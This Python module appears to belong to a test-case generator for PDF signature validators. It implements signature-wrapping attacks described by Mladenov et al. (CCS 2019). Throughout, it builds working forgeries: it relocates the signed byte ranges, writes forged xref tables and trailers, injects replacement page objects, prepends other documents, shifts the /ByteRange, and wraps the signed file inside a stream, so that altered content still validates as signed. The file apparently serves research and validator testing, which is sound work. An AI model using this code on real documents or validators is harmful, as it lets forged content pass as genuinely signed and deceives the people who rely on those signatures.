"""Signature Wrapping: the signed bytes stay whole, the second half moved, and other objects take its place.

Source: Mladenov et al., ACM CCS 2019, section 5.3, variants 1 to 3.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from attack_kinds import Family
from attack_pdf import last_startxref, places, root_of, written_objects, xref_table
from attack_saving import page_stream

WRAPPING = Family("signature wrapping")
_SUBSECTION = re.compile(rb"(\d+) (\d+)\n((?:\d{10} \d{5} [nf][ \r]?\n)+)")


@dataclass(frozen=True)
class Wrap:
    """How the file is put together.

    Attributes:
        own_range: A second `/ByteRange` stands in the gap, ahead of the signed one.
        zeros: The zeros that pad the contents are kept.
        closed: The dictionary is closed inside the gap.
        prev: The table in the gap continues the one of the revision before; otherwise the one that is wrapped.
        comment: What fills up to the table is a comment, else spaces.
    """

    own_range: bool = True
    zeros: bool = False
    closed: bool = True
    prev: bool = True
    comment: bool = True


def table_rows(pdf: bytes, start: int) -> dict[int, int]:
    """Numbers and offsets of a classic table."""
    end = pdf.index(b"trailer", start)
    rows: dict[int, int] = {}
    for first, _, lines in _SUBSECTION.findall(pdf[start:end]):
        for number, line in enumerate(lines.splitlines(), int(first)):
            if line.rstrip().endswith(b"n"):
                rows[number] = int(line[:10])
    return rows


def entries_lost(pdf: bytes, start: int) -> bytes:
    """The entries of the dictionary that lie in the second half and so are no longer in it."""
    ahead = pdf[pdf.rindex(b" obj", 0, start) : start]
    entries = (b"/Type /Sig", b"/Filter /Adobe.PPKLite", b"/SubFilter /ETSI.CAdES.detached")
    return b"".join(b" " + entry for entry in entries if entry.split()[0] + b" " not in ahead)


def wrapped(pdf: bytes, how: Wrap) -> bytes:
    """The last signature's second half moved to the end; at its `startxref` stands a table of ours."""
    place = places(pdf)[-1]
    start, end = place.gap
    table_at, second = last_startxref(pdf), pdf[end:]
    contents = pdf[start:end] if how.zeros else pdf[start:end].rstrip(b"0>") + b"0>"
    if len(contents) % 2:
        contents = contents[:-1] + b"0>"
    number, stream = page_stream(pdf)
    evil, offsets = written_objects({number: stream}, 0)
    previous = int(re.findall(rb"/Prev (\d+)", pdf)[-1]) if how.prev else table_at
    rows = table_rows(pdf, table_at)
    moved = 0
    for _ in range(3):  # the numbers in the range tell its own length
        inner = b" /ByteRange [0 %d %d %d]" % (start, moved, len(second)) if how.own_range else b""
        inner += entries_lost(pdf, start)
        inner += b" >>\nendobj\n" if how.closed else b" /Rest "
        head = pdf[:start] + contents + inner
        pad = table_at - len(head)
        if pad < 2:
            raise ValueError(f"no room: {pad}")
        head += (b"%" if how.comment else b" ") + b" " * (pad - 2) + b"\n"
        end_of_table = b"trailer\n<< /Size 200 /Root %d 0 R /Prev %d >>\n" % (root_of(pdf), previous)
        # what stood behind the contents stands behind them still
        placed = {one: at if at < end else at - end + moved for one, at in rows.items()} | {number: 0}
        length = len(xref_table(placed)) + len(end_of_table)
        placed[number] = table_at + length + offsets[number]
        made = head + xref_table(placed) + end_of_table + evil
        moved = len(made)
    return made + second


WRAPPING.variants(
    {
        "second half moved, range in the gap": lambda pdf: wrapped(pdf, Wrap()),
        "second half moved, range unchanged": lambda pdf: wrapped(pdf, Wrap(own_range=False)),
        "second half moved, dictionary left open": lambda pdf: wrapped(pdf, Wrap(closed=False)),
        "second half moved, no comment": lambda pdf: wrapped(pdf, Wrap(comment=False)),
        "second half moved, table wraps itself": lambda pdf: wrapped(pdf, Wrap(prev=False)),
    },
    "roomy_alone",
    "secretary",
    "adjuster",
    "sealed",
)
WRAPPING.variants(
    {"second half moved, range in the gap, zeros kept": lambda pdf: wrapped(pdf, Wrap(zeros=True))}, "adjuster"
)


@WRAPPING.on_each("secretary", "adjuster")
def objects_in_the_zeros(pdf: bytes) -> bytes:
    """The zeros that pad the contents give room to an object, which nothing refers to yet."""
    place = places(pdf)[-1]
    start, end = place.gap
    contents = pdf[start:end].rstrip(b"0>") + b"00>"
    number, stream = page_stream(pdf)
    evil, _ = written_objects({number: stream}, 0)
    room = end - start - len(contents)
    return pdf[:start] + contents + evil[:room].ljust(room) + pdf[end:]


@WRAPPING.on_each("secretary", "adjuster")
def first_half_behind_another_header(pdf: bytes) -> bytes:
    """Another document stands before the signed one."""
    other = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    return other + pdf


@WRAPPING.on_each("secretary", "adjuster")
def range_shifted_behind_another_header(pdf: bytes) -> bytes:
    """Likewise, with a copy of the range that is shifted by as much; the digest would still be right."""
    place = places(pdf)[-1]
    other = b"%PDF-1.7\n% another document\n"
    shift = len(other)
    text = f"/ByteRange [{shift} {place.numbers[1]} {place.numbers[2] + shift} {place.numbers[3]}]"
    start, end = place.written
    return other + pdf[:start] + text.encode().ljust(end - start) + pdf[end:]


@WRAPPING.on_each("secretary", "adjuster")
def whole_file_inside_a_stream(pdf: bytes) -> bytes:
    """The signed file is an object of another, whose field uses its signature."""
    place = places(pdf)[-1]
    head = b"%%PDF-1.7\n9 0 obj\n<< /Length %d >>\nstream\n" % len(pdf)
    shift = len(head)
    start, length, second, rest = place.numbers
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /SigFlags 3 /Fields [4 0 R] >> >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        4: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Sekreterare) /F 4 /Rect [0 0 9 9] /P 3 0 R /V 5 0 R >>",
        5: b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /Contents %s /ByteRange [%d %d %d %d] >>"
        % (pdf[place.gap[0] : place.gap[1]], start + shift, length, second + shift, rest),
    }
    made = head + pdf + b"\nendstream\nendobj\n"
    written, offsets = written_objects(objects, len(made))
    table_at = len(made) + len(written)
    end = b"trailer\n<< /Size 10 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % table_at
    return made + written + xref_table(offsets | {9: 9}) + end
